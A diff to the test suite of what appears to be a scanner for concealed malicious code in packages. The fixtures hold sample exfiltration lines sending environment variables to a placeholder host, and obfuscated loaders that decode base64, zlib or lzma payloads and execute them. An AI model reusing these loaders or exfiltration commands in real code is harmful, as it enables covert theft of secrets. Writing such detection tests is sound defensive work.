@@ -59,6 +59,8 @@ def test_what_was_missed_is_told(path: str, code: str, expected: str) -> None:
 ENCODED = base64.b64encode(b'echo hi there; curl -s https://a.b.c/d -d "$(env)"').decode()
 DEFLATED = base64.b64encode(zlib.compress(SENDS.encode())).decode()
 PYTHON = b"import os, requests\nrequests.post('https://a.b.c', json=dict(os.environ))"
+BACK = base64.b64encode(SENDS.encode()[::-1]).decode()
+WHOLE = lzma.compress(PYTHON).hex()
 SMALL = lzma.compress(PYTHON, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2, "preset": 6}]).hex()
 ACTION = f"""runs:
   using: composite
@@ -76,6 +78,8 @@ LATER = [
     ("x.ps1", ".($env:ComSpec[4,24,25] -join '') 'Start-Process b'", "process.exec b"),
     ("X.java", 'class X { static { Path p = Files.createTempFile("a", "b"); try (InputStream in = new URL("http://a.b.c").openStream()) { Files.copy(in, p); } new ProcessBuilder(p.toString()).start(); } }', RUNS),
     ("action.yml", ACTION, ENV),
+    ("x.js", f"const M = require('module'); const m = new M('x'); m._compile(require('os').EOL ? Buffer.from('{BACK}', 'base64').reverse().toString() : '', 'x')", ENV),
+    ("x.py", f"import lzma, binascii\neval('exec')(lzma.decompress(binascii.a2b_hex('{WHOLE}')))", ENV),
     ("x.js", f"require('zlib').inflate(Buffer.from('{DEFLATED}', 'base64'), (e, out) => new (require('module'))('x')._compile(out.toString(), 'x'))", ENV),
     ("x.py", f"from lzma import *\nfrom binascii import *\nexec(decompress(a2b_hex('{SMALL}'), format=FORMAT_RAW))", ENV),
 ]  # fmt: skip
@@ -133,3 +137,19 @@ def test_who_ends_a_program_by_chance_after_a_day_is_told(code: str) -> None:
 def test_a_day_or_chance_or_an_end_alone_is_not_told() -> None:
     code = "class A { void f() { if (LocalDate.now().isAfter(LocalDate.of(2027, 8, 8))) System.exit(1); } }"
     assert "process.does ends-by-chance after-a-day" not in short(seen(code, "A.java"))
+
+
+def test_a_package_that_finds_itself_writes_into_no_other() -> None:
+    files = {
+        "package.json": '{"name": "thing"}',
+        "install.js": "const p = require('path'); require('fs').writeFileSync(p.join(p.dirname(require.resolve('thing')), 'a', 'package.json'), '{}')",
+    }
+    assert not any("node_modules" in b for b in package(files))
+
+
+def test_text_beside_the_module_is_known_through_json() -> None:
+    files = {
+        "x.json": f'"{B64}"',
+        "lib/x.js": "const t = JSON.parse(require('fs').readFileSync(__dirname + '/../x.json', 'utf8')); new Function('require', Buffer.from(t, 'base64').toString())(require)",
+    }
+    assert f"{ENV} @ lib/x.js:1 (import)" in package(files)
